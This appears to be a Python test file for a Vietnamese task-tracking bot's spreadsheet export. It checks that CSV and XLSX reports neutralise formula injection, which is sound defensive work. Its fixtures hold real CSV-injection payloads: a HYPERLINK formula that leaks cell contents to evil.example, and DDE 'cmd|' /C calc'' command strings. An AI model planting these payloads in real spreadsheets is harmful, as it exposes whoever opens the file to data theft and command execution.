"""Spreadsheets troly writes are safe to open: no cell starts a formula (OWASP "CSV injection"),
text that looks like one is kept as text, and characters XML cannot hold never break the file."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli import build_cli
from bot.db.models import Unit
from bot.reports.sheets import csv_bytes, safe_text
from scheduler.digest import build_digest
from tests.harness import BotHarness

#: what an attacker (or an unlucky paste) puts in a task title, evidence or a blocker
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_safe_workbook(content: bytes) -> list[str]:
    """No formula anywhere (cell types and the raw XML); return every text cell's value."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
    return values


def test_safe_text_and_csv() -> None:
    assert safe_text("Chờ\x01 kinh\x0b phí\x00") == "Chờ kinh phí"
    assert safe_text("dòng 1\ndòng 2\tcột") == "dòng 1\ndòng 2\tcột"
    rows = list(csv.reader(io.StringIO(csv_bytes([["Mã", "Nhiệm vụ"], *(
        [str(n), value] for n, value in enumerate(DANGEROUS))]).decode("utf-8-sig"))))
    assert rows[0] == ["Mã", "Nhiệm vụ"]
    assert [r[1] for r in rows[1:]] == ["'" + safe_text(value) for value in DANGEROUS]
    assert safe_text("\r=1+1") == "\n=1+1"  # line ends are normalized, the prefix still applies
    assert csv_bytes([[-5, 2.5, None, "ok"]]).decode("utf-8-sig").strip() == "-5,2.5,,ok"


async def test_report_and_digest_keep_formula_lookalikes_as_text(harness: BotHarness) -> None:
    await harness.make_official("Trưởng Phòng", role="head", user="hb", unit_code="P1")
    lan = await harness.make_official("=Lan", user="lan", unit_code="P1")
    await harness.world.tasks([lan], [(f"NV{n}", title, date(2026, 12, 31))
                                      for n, title in enumerate(DANGEROUS, start=1)],
                              unit="P1")
    (message,) = await harness.say("/xuatbaocao", user="hb")
    (report,) = message.attachments
    values = assert_safe_workbook(report.content)
    for title in DANGEROUS:
        assert safe_text(title) in values
    assert "=Lan" in values  # a person's name is data as well
    async with harness.app.sessionmaker() as session:
        p1 = (await session.execute(select(Unit).where(Unit.code == "P1"))).scalar_one()
        digest = await build_digest(session, p1.id, "2026-W48", "week", harness.clock.now())
    spreadsheet = [a for a in digest.attachments if a.file_name.endswith(".xlsx")]
    assert spreadsheet and all(assert_safe_workbook(a.content) for a in spreadsheet)


def test_imported_formula_lookalikes_refused_or_kept_as_text(database_url: str, tmp_path: Path) -> None:
    """A plan cell starting with '=' is refused at import (a formula without its value); other
    lookalikes ('@', '+', '-') are data and come back as text in troly's own report."""
    env = {"TROLY_DATABASE_URL": database_url, "TROLY_LOAD_DEMO_GUIDES": "false",
           "TROLY_LOG_LEVEL": "WARNING"}
    runner, cli = CliRunner(), build_cli()
    units = tmp_path / "don-vi.csv"
    units.write_text("Mã đơn vị,Tên đơn vị,Đơn vị cấp trên\nP1,Phòng Một,\n", encoding="utf-8")

    def tasks_file(name: str, rows: list[list[str]]) -> Path:
        body = io.StringIO()
        writer = csv.writer(body)
        writer.writerow(["Mã nhiệm vụ", "Nhiệm vụ", "Đơn vị chủ trì", "Thời hạn"])
        writer.writerows(rows)
        path = tmp_path / name
        path.write_text(body.getvalue(), encoding="utf-8")
        return path

    plan = ["--plan", "KH 1/KH-P1", "--year", "2026"]
    result = runner.invoke(cli, ["units", "import", str(units)], env=env)
    assert result.exit_code == 0, result.output
    hyperlink = tasks_file("cong-thuc.csv", [["NV1", '=HYPERLINK("http://evil.example","Bấm")',
                                              "P1", "31/12/2026"]])
    result = runner.invoke(cli, ["tasks", "import", str(hyperlink), *plan], env=env)
    assert result.exit_code == 1 and "Paste Values" in result.output  # refused, nothing written
    lookalikes = ["@SUM(1)", "+84 cuộc họp", "-1+2 đợt"]
    kept = tasks_file("nhiem-vu.csv", [[f"NV{n}", title, "P1", "31/12/2026"]
                                       for n, title in enumerate(lookalikes, start=2)])
    result = runner.invoke(cli, ["tasks", "import", str(kept), *plan], env=env)
    assert result.exit_code == 0, result.output
    out = tmp_path / "tuan.xlsx"
    result = runner.invoke(cli, ["report", "weekly", "--unit", "P1", "--xlsx", str(out)], env=env)
    assert result.exit_code == 0, result.output
    values = assert_safe_workbook(out.read_bytes())
    assert all(title in values for title in lookalikes)
    assert not any("HYPERLINK" in str(value) for value in values)


def test_assert_safe_workbook_catches_a_formula() -> None:
    """The checker itself can fail: a workbook written without the helper is caught."""
    book = Workbook()
    book.active.append(["=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    try:
        assert_safe_workbook(buffer.getvalue())
    except AssertionError:
        return
    raise AssertionError("a live formula was not detected")
